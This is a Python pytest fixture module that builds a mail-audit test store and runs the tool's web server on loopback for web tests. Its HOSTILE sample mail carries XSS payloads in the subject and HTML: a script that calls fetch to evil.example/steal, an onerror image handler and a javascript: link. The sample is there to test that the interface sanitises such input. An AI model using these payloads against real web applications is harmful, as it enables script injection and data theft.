"""A store for the web tests, made with the real library, and `mailaudit web`
running as a real server on a free loopback port.

The store holds examples/sample.mbox as scanned (findings, the report), the
evidence log of tests/data/evidence_log (a four-message thread with the
operations team's reply, an operation log to reconcile with) plus a few
placement mails in Chinese and English, and one hostile mail: a <script>, a
remote image and a javascript: link, in its subject and its HTML.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
EVIDENCE = ROOT / "tests" / "data" / "evidence"
LOG = ROOT / "tests" / "data" / "evidence_log"
OPLOG = LOG / "oplog.csv"
PLACEMENTS = ["en-place-homepage-banner.eml", "zh-place-homepage-banner-time.eml", "en-cancel-two-slots.eml"]
HOSTILE_SUBJECT = "<script>document.title='pwned'</script> 蒙牛开屏"
HOSTILE = f"""\
From: Mallory <mallory@evil.example>
To: ops@example.cn
Subject: {HOSTILE_SUBJECT}
Date: Tue, 04 Jun 2024 10:00:00 +0800
Message-ID: <hostile-1@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p>王经理，</p>
<p>请为蒙牛安排开屏投放，6月10日至6月16日。</p>
<script>document.title='pwned'; fetch('http://evil.example/steal')</script>
<img src="http://evil.example/pixel.png" onerror="document.title='pwned'">
<p><a href="javascript:document.title='pwned'">点这里看素材</a> &lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>张伟</p></body></html>
""".encode()
PASSWORD = "correct horse battery staple"


def make_store(folder: Path) -> dict:
    """Build the store in `folder`; returns its path and record ids by subject."""
    # Imported here: conftest imports this module for every test run.
    from click.testing import CliRunner

    from mailaudit.cli import main
    from mailaudit.evidence.ingest import ingest_paths
    from mailaudit.evidence.lookup import Query, search
    from mailaudit.store.store import Store

    db = folder / "audit.db"
    scan = CliRunner().invoke(main, ["scan", "--mbox", str(ROOT / "examples" / "sample.mbox"), "--db", str(db)])
    assert scan.exit_code == 0, scan.output
    # A Maildir scanned too, so the operations team's reply (no instruction) is stored
    # and shows as a confirmation in its thread.
    maildir = folder / "Maildir"
    for sub in ("cur", "new", "tmp"):
        (maildir / sub).mkdir(parents=True)
    mails = [*sorted(LOG.glob("*.eml")), *(EVIDENCE / n for n in PLACEMENTS)]
    for n, path in enumerate(mails):
        (maildir / "cur" / f"17000000{n:02d}.{n}.host:2,S").write_bytes(path.read_bytes())
    (maildir / "cur" / "1700000099.99.host:2,S").write_bytes(HOSTILE)
    scan = CliRunner().invoke(main, ["scan", "--maildir", str(maildir), "--db", str(db), "--workers", "1"])
    assert scan.exit_code in (0, 1), scan.output
    with Store.open(db) as store:
        ingest_paths(store, [str(maildir)], now=lambda: "2024-07-01T00:00:00Z")  # in case scans do not ingest
        signed, lookup = dkim_signed(folder)
        ingest_paths(store, [str(signed)], dnsfunc=lookup, now=lambda: "2024-07-01T00:00:00Z")
        by_msgid = {h.subject: h.id for h in search(store, Query(limit=None))}
    return {"db": db, "folder": folder, "ids": by_msgid}


SIGNED_SUBJECT = "Contoso homepage banner, June 17-23"
SIGNED = f"""\
From: Dana White <dana@contoso.example>
To: Ad Ops <ops@example.cn>
Subject: {SIGNED_SUBJECT}
Date: Mon, 10 Jun 2024 09:00:00 +0000
Message-ID: <contoso-1@contoso.example>

Hi team,

Please book the homepage banner for Contoso from June 17 to June 23.

Thanks,
Dana
""".encode()


def dkim_signed(folder: Path):
    """A placement mail signed by contoso.example with a key made now, and the DNS
    look-up that answers with that key (no network)."""
    import base64

    import dkim

    pem = folder / "dkim.pem"
    subprocess.run(["openssl", "genrsa", "-out", str(pem), "2048"], check=True, capture_output=True)
    der = subprocess.run(["openssl", "rsa", "-in", str(pem), "-pubout", "-outform", "DER"],
                         check=True, capture_output=True).stdout
    record = b"v=DKIM1; k=rsa; p=" + base64.b64encode(der)
    raw = SIGNED.replace(b"\n", b"\r\n")
    signature = dkim.sign(raw, b"web", b"contoso.example", pem.read_bytes(),
                          include_headers=[b"from", b"to", b"subject", b"date", b"message-id"])
    path = folder / "signed.eml"
    path.write_bytes(signature + raw)

    def lookup(name: bytes, timeout: float = 5) -> bytes | None:
        return record if name == b"web._domainkey.contoso.example." else None

    return path, lookup


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def write_config(folder: Path, *, users: bool = True, extra: str = "") -> Path:
    from mailaudit.web.auth import hash_password

    lines = ["[workflow]", 'ops_group = ["ops@example.cn"]', ""]
    if users:
        lines += ["[web.users]", f'alice = "{hash_password(PASSWORD)}"', ""]
    path = folder / "mailaudit.toml"
    path.write_text("\n".join(lines) + extra, encoding="utf-8")
    return path


@contextlib.contextmanager
def running_server(db: Path, config: Path | None, *args: str) -> Iterator[str]:
    """`mailaudit web` in its own process on a free loopback port; yields its URL."""
    port = free_port()
    cmd = [sys.executable, "-m", "mailaudit", *(["--config", str(config)] if config else []),
           "web", "--db", str(db), "--port", str(port), *args]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=dict(os.environ))
    try:
        deadline = time.monotonic() + 30
        while True:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.5):
                break
            if proc.poll() is not None:
                pytest.fail(f"mailaudit web exited: {proc.stderr.read().decode()}")
            if time.monotonic() > deadline:
                pytest.fail("mailaudit web did not start listening in 30 s")
            time.sleep(0.1)
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        for stream in (proc.stdout, proc.stderr):
            stream.close()


@pytest.fixture(scope="session")
def web_store(tmp_path_factory) -> dict:
    return make_store(tmp_path_factory.mktemp("web"))
